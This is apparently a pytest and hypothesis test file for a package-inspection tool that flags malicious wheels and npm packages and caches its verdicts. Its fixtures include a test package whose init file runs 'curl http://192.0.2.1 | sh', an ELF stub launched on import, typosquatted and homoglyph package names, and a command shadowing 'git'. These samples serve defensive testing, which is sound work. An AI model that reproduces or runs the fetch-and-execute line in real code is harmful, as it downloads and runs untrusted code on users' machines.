"""What is recalled is what would be found: under any policy, any name, any file name, in any order."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime, timezone
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatekeeper import inspection
from gatekeeper.evidence import ruleset
from gatekeeper.gate.blobs import sha256_of
from gatekeeper.inspection import Inspector
from gatekeeper.model import Advisory, Dated, Evidence, History, Notice, Release, Ruling
from gatekeeper.policy import Policy, Waiver
from tests.support.judging import checks_of
from tests.support.npm_packages import package
from tests.support.packages import wheel
from tests.support.stores import Memory

if TYPE_CHECKING:
    from pathlib import Path

    from gatekeeper.model import Verdict
    from tests.support.packages import Built

RUNS_ITS_BINARY = (
    "import os, subprocess\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'tool')], check=False)\n"
)
BINARY = b"\x7fELF\x02\x01\x01" + bytes(64)
BUILT = {
    "clean": wheel("acme-thing"),
    "binary": wheel("acme-thing", files={"acme_thing/__init__.py": RUNS_ITS_BINARY, "acme_thing/tool": BINARY}),
    "shell": wheel(
        "acme-thing", files={"acme_thing/__init__.py": "import os\nos.system('curl http://192.0.2.1 | sh')\n"}
    ),
}
NAMES = ["acme-thing", "git", "reqeusts", "requests", "\u0430cme-thing"]
TAGS = ["py3-none-any", "py2.py3-none-any", "cp311-cp311-manylinux2014_x86_64"]
CHECKS = ["native-payload", "download-then-run", "shadowed-command", "typosquat", "confusable-name"]


def named(built: Built, tag: str) -> str:
    return f"acme_thing-1.0-{tag}.whl"


def judge(inspector: Inspector, built: Built, name: str, tag: str, folder: Path) -> Verdict:
    path = folder / built.sha256
    if not path.exists():
        path.write_bytes(built.content)
    verdict = inspector.judge_artifact(
        path, Release("pypi", name, "1.0"), filename=named(built, tag), sha256=built.sha256, requested=True, later=True
    )
    return replace(verdict, recalled=False, pending=None)


@st.composite
def policies(draw: st.DrawFn) -> Policy:
    words = st.sampled_from(["allow", "note", "ask", "block"])
    waivers = tuple(
        Waiver(Release("pypi", name, "1.0").purl, check, BUILT[built].sha256, "why", "who", "2099-01-01")
        for name, check, built in draw(
            st.lists(
                st.tuples(st.sampled_from(NAMES), st.sampled_from(CHECKS), st.sampled_from(sorted(BUILT))), max_size=2
            )
        )
    )
    return Policy(
        rulings=draw(st.dictionaries(st.sampled_from(CHECKS), words, max_size=2)),
        floors=draw(st.dictionaries(st.sampled_from(CHECKS), words, max_size=1)),
        package_hosts=tuple(draw(st.lists(st.sampled_from(["files.example", "192.0.2.1"]), max_size=1))),
        waivers=waivers,
    )


RUNS = st.lists(
    st.tuples(st.sampled_from(sorted(BUILT)), st.sampled_from(NAMES), st.sampled_from(TAGS), policies()), max_size=5
)


@settings(max_examples=25)
@given(runs=RUNS)
def test_a_judgement_with_a_store_is_the_judgement_without_one(
    runs: list[tuple[str, str, str, Policy]], tmp_path_factory: pytest.TempPathFactory
) -> None:
    folder, memory = tmp_path_factory.mktemp("bytes"), Memory()
    for kind, name, tag, policy in runs:
        built = BUILT[kind]
        fresh = judge(Inspector(policy), built, name, tag, folder)
        assert judge(Inspector(policy, memory), built, name, tag, folder) == fresh
        assert judge(Inspector(policy, memory), built, name, tag, folder) == fresh


def test_a_claim_to_hold_no_native_code_is_part_of_what_is_remembered(tmp_path: Path) -> None:
    """The same bytes, served under a name that claims it and under one that does not, deserve two rulings."""
    inspector = Inspector(Policy(), Memory())
    native = judge(inspector, BUILT["binary"], "acme-thing", "cp311-cp311-manylinux2014_x86_64", tmp_path)
    pure = judge(inspector, BUILT["binary"], "acme-thing", "py3-none-any", tmp_path)
    (low, high) = (
        max(each.severity for each in verdict.findings if each.check == "native-payload") for verdict in (native, pure)
    )
    assert low < high


def test_what_a_package_may_call_its_command_hangs_on_its_own_name(tmp_path: Path) -> None:
    inspector = Inspector(Policy(), Memory())
    built = package("acme-thing", files={"cli.js": "console.log(1)\n"}, bin={"git": "cli.js"})
    path = built.write(tmp_path)
    for name, odd in (("git", False), ("acme-thing", True), ("git", False)):
        verdict = inspector.judge_artifact(
            path, Release("npm", name, "1.0.0"), filename=f"{name}-1.0.0.tgz", sha256=sha256_of(path), later=True
        )
        assert ("shadowed-command" in checks_of(verdict)) is odd, name


@pytest.mark.parametrize("name", NAMES)
def test_nothing_about_a_name_or_a_history_is_remembered_with_the_bytes(tmp_path: Path, name: str) -> None:
    memory = Memory()
    inspector = Inspector(Policy(), memory)
    past = History(
        inspection_time(), Dated("1.0", published=inspection_time(), withdrawn="yanked: it was broken"), pinned=True
    )
    path = BUILT["clean"].write(tmp_path)
    verdict = inspector.judge_artifact(
        path, Release("pypi", name, "1.0"), filename=named(BUILT["clean"], TAGS[0]), sha256=BUILT["clean"].sha256,
        requested=True, history=past,
    )  # fmt: skip
    assert verdict.findings
    assert list(memory.kept.values()) == [()]


def test_nothing_about_sources_and_records_is_remembered_at_all() -> None:
    memory = Memory()
    inspector = Inspector(Policy(), memory)
    release = Release("pypi", "acme-thing", "1.0")
    assert inspector.judge_notices(release, (Notice("vcs-source", "git+https://code.example/a.git"),)).findings
    assert inspector.judge_facts(Evidence(release, advisories=(Advisory("MAL-1", "it steals"),))).findings
    assert inspector.judge_name(Release("pypi", "reqeusts"), requested=True).findings
    assert memory.kept == {}


def inspection_time() -> datetime:
    return datetime(2026, 1, 1, tzinfo=timezone.utc)


@pytest.mark.parametrize(
    "change",
    [
        lambda patch: patch.setattr(ruleset.signatures, "digest", lambda: "sha256:other"),
        lambda patch: patch.setattr(ruleset.gatekeeper, "__version__", "9.9.9"),
        lambda patch: patch.setattr(ruleset, "engine", lambda module: f"{module} 99"),
        lambda patch: patch.setattr(ruleset.sys, "version_info", (3, 99, 0)),
    ],
    ids=["signatures", "version", "an engine", "python"],
)
def test_other_rules_never_see_what_these_have_found(change, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    memory = Memory()
    judge(Inspector(Policy(), memory), BUILT["shell"], "acme-thing", TAGS[0], tmp_path)
    ruleset.current_ruleset.cache_clear()
    with monkeypatch.context() as patch:
        change(patch)
        later = Inspector(Policy(), memory)
        verdict = later.judge_artifact(
            tmp_path / BUILT["shell"].sha256, Release("pypi", "acme-thing", "1.0"), filename=named(BUILT["shell"], TAGS[0]),
            sha256=BUILT["shell"].sha256, later=True,
        )  # fmt: skip
        assert not verdict.recalled
    ruleset.current_ruleset.cache_clear()


def test_rules_of_one_s_own_and_deeper_reading_are_other_rules(tmp_path: Path) -> None:
    rule = tmp_path / "rule.yml"
    rule.write_text("rules: []\n", "utf-8")
    policy = Policy(signatures=(str(rule),))
    digests = [Inspector(Policy()).ruleset, Inspector(Policy(), deep=True).ruleset, Inspector(policy).ruleset]
    rule.write_text("rules: [] # changed\n", "utf-8")
    assert len({*digests, Inspector(policy).ruleset}) == 4


def test_what_the_deep_pass_could_not_read_is_not_remembered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    memory = Memory()
    inspector = Inspector(Policy(), memory, deep=True)
    path = BUILT["shell"].write(tmp_path)
    monkeypatch.setattr("gatekeeper.evidence._semgrep.program", lambda: None)
    verdict = inspector.judge_artifact(
        path, Release("pypi", "acme-thing", "1.0"), filename=BUILT["shell"].filename, sha256=BUILT["shell"].sha256
    )
    assert verdict.ruling >= Ruling.ASK
    assert memory.kept == {}
    assert inspection.key_of(verdict.release, verdict.artifact) not in memory.kept
